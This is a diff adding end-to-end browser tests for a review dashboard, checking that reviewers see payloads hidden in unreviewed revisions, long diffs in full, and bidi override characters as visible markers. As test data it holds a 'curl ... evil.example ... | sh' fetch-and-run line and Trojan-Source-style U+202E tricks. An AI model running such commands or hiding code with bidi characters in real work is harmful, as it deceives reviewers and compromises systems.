@@ -213,6 +213,17 @@ describe('dashboard', () => {
       `/api/v1/proposals/${created.body.proposal_id}/revisions`,
       { spec: { ...loggingSpec(0), inputs: v1 } },
     );
+    // A reviewer decided on revision 2, so revision 3's diff starts there (issue 20).
+    await tina.post(`/api/v1/proposals/${created.body.proposal_id}/confirm`, {
+      revision_id: revised.body.revision_id,
+    });
+    await c.tm
+      .rest(c.tm.createToken('vic', ['reviewer']))
+      .post(`/api/v1/proposals/${created.body.proposal_id}/reviews`, {
+        revision_id: revised.body.revision_id,
+        decision: 'REQUEST_CHANGES',
+        comments: 'bump VERSION',
+      });
     const v2 = await upload('VERSION = 2\n');
     const third = await tina.post<{ revision_id: string }>(
       `/api/v1/proposals/${created.body.proposal_id}/revisions`,
@@ -236,6 +247,112 @@ describe('dashboard', () => {
     await change.waitFor(BOUND);
     expect(await change.locator('[data-op="del"]').textContent()).toBe('-VERSION = 1');
     expect(await change.locator('[data-op="add"]').textContent()).toBe('+VERSION = 2');
+    expect(await review.locator('.diff-base').textContent()).toContain('since revision 2');
+    await signOut();
+  });
+
+  it('shows a payload from an unreviewed revision, every byte of every input, and a long diff to its end', async () => {
+    const tom = c.tm.rest(c.tm.createToken('tom', ['submitter']));
+    const upload = async (path: string, content: string) =>
+      (
+        await tom.post<{ inputs: Array<{ path: string; sha256: string; size: number }> }>('/api/v1/inputs', {
+          files: [{ path, content }],
+        })
+      ).body.inputs[0]!;
+    const prop = `/api/v1/proposals`;
+    const spec = (inputs: unknown[], env: Record<string, string> = {}) => ({
+      ...loggingSpec(0),
+      title: 'train \u202egnp.exe',
+      runtime: { kind: 'process', argv: ['/bin/sh', 'main.sh'], env },
+      inputs,
+    });
+    // Revision 1 (benign) is reviewed: changes requested.
+    const main1 = await upload('main.sh', 'echo training\n# compute the loss\n');
+    const r1 = await tom.post<{ proposal_id: string; revision_id: string }>(prop, { spec: spec([main1]) });
+    const id = r1.body.proposal_id;
+    await tom.post(`${prop}/${id}/confirm`, { revision_id: r1.body.revision_id });
+    await c.tm.rest(c.tm.createToken('val', ['reviewer'])).post(`${prop}/${id}/reviews`, {
+      revision_id: r1.body.revision_id,
+      decision: 'REQUEST_CHANGES',
+      comments: 'fix the typo',
+    });
+    // Revision 2 slips in a payload and a 1,000-line file, and is never confirmed.
+    const payload = await upload('hook.sh', 'curl -s http://evil.example/x | sh\n');
+    const longText = Array.from({ length: 1000 }, (_, i) => `row ${i + 1} ${'x'.repeat(90)}`).join('\n');
+    const long = await upload('data/long.txt', `${longText}\n\u202e the end\n`);
+    await tom.post(`${prop}/${id}/revisions`, { spec: spec([main1, payload, long]) });
+    // Revision 3 fixes a comment, and sets an env variable.
+    const main3 = await upload('main.sh', 'echo training\n# compute the loss (typo fixed)\n');
+    const r3 = await tom.post<{ revision_id: string }>(`${prop}/${id}/revisions`, {
+      spec: spec([main3, payload, long], { OMP_NUM_THREADS: '4' }),
+    });
+    await tom.post(`${prop}/${id}/confirm`, { revision_id: r3.body.revision_id });
+
+    await page.goto(c.tm.url);
+    await page.locator('#signin-form').waitFor({ state: 'visible', ...BOUND });
+    await signIn(c.tm.createToken('wes', ['reviewer']));
+    const review = page.locator(`[data-proposal="${id}"]`);
+    await review.waitFor(BOUND);
+    expect(await review.locator('.review-head strong').textContent()).toBe('train ⟨U+202E⟩gnp.exe');
+    await review.locator('summary', { hasText: 'Spec, findings and changes' }).click();
+    // The base is revision 1, revision 2 is named as never reviewed, and its payload is in the diff.
+    await review.locator('.diff-base[data-base="1"]').waitFor(BOUND);
+    expect(await review.locator('[data-unreviewed="2"]').textContent()).toContain(
+      'revision 2 (never confirmed)',
+    );
+    const hook = review.locator('.input-change[data-path="hook.sh"][data-change="added"]');
+    expect(await hook.locator('[data-op="add"]').textContent()).toBe('+curl -s http://evil.example/x | sh');
+    expect(await review.locator('.env [data-env="OMP_NUM_THREADS"]').textContent()).toBe('OMP_NUM_THREADS4');
+
+    // The 1,000-line diff pages to its end; the last line shows its bidi override as a marker.
+    const diff = review.locator('.input-change[data-path="data/long.txt"]');
+    for (let i = 0; i < 10 && (await diff.locator('.diff-footer [data-complete]').count()) === 0; i++) {
+      await diff.locator('button.more').click();
+      await expect
+        .poll(() => diff.locator('button.more:enabled, .diff-footer [data-complete]').count(), BOUND)
+        .toBe(1);
+    }
+    await diff.locator('.diff-footer [data-complete]').waitFor(BOUND);
+    const last = diff.locator('[data-op="add"]').last();
+    expect(await last.textContent()).toBe('+⟨U+202E⟩ the end');
+    await last.scrollIntoViewIfNeeded();
+    expect(await last.isVisible()).toBe(true);
+
+    // Every byte of an input is readable: the long file's content, page after page, to its end.
+    const content = review.locator('[data-input="data/long.txt"] details.input-content');
+    await content.locator('summary').click();
+    const pre = content.locator('pre.file-content');
+    await pre.waitFor(BOUND);
+    for (let i = 0; i < 10 && (await content.locator('[data-complete]').count()) === 0; i++) {
+      await content.locator('button.more').click();
+      await expect.poll(() => content.locator('button.more:enabled, [data-complete]').count(), BOUND).toBe(1);
+    }
+    expect(await pre.textContent()).toBe(`${longText}\n⟨U+202E⟩ the end\n`);
+    const main = review.locator('[data-input="main.sh"] details.input-content');
+    await main.locator('summary').click();
+    await expect
+      .poll(() => main.locator('pre.file-content').textContent(), BOUND)
+      .toBe('echo training\n# compute the loss (typo fixed)\n');
+    await page.screenshot({ path: join(RESULTS, 'dashboard-review.png'), fullPage: true });
+
+    // Revision 1, nothing decided before it: every file is added, its diff and its content shown whole.
+    const solo = await upload('solo.py', "print('hello')\nif user == 'admin\u202e \u2066':  # ok\n");
+    const r = await tom.post<{ proposal_id: string; revision_id: string }>(prop, { spec: spec([solo]) });
+    await tom.post(`${prop}/${r.body.proposal_id}/confirm`, { revision_id: r.body.revision_id });
+    const first = page.locator(`[data-proposal="${r.body.proposal_id}"]`);
+    await first.waitFor(BOUND);
+    await first.locator('summary', { hasText: 'Spec, findings and changes' }).click();
+    await first.locator('.diff-base[data-base="none"]').waitFor(BOUND);
+    const added = first.locator('.input-change[data-path="solo.py"][data-change="added"]');
+    expect(await added.locator('[data-op="add"]').allTextContents()).toEqual([
+      "+print('hello')",
+      "+if user == 'admin⟨U+202E⟩ ⟨U+2066⟩':  # ok",
+    ]);
+    const soloContent = first.locator('[data-input="solo.py"] details.input-content');
+    await soloContent.locator('summary').click();
+    await expect
+      .poll(() => soloContent.locator('pre.file-content').textContent(), BOUND)
+      .toBe("print('hello')\nif user == 'admin⟨U+202E⟩ ⟨U+2066⟩':  # ok\n");
     await signOut();
   });
 });
